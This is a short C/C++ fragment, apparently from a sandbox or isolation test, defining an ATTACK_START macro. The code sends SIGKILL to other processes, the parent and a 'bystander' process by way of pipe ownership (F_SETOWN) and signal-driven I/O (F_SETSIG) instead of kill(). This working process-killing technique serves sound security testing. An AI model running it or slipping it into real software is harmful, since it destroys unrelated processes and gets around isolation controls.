static void strike(pid_t pid) {
    int pair[2];
    if (pid <= 0 || pid == getpid() || pipe(pair) != 0) return;
    fcntl(pair[0], F_SETOWN, pid);
    fcntl(pair[0], 10 /* F_SETSIG */, SIGKILL);
    fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    write(pair[1], "x", 1);
    close(pair[0]);
    close(pair[1]);
}
static void strike_all() {
    for (const pid_t pid : others()) strike(pid);
    strike(getppid());
    strike(BYSTANDER);
}
#define ATTACK_START strike_all()
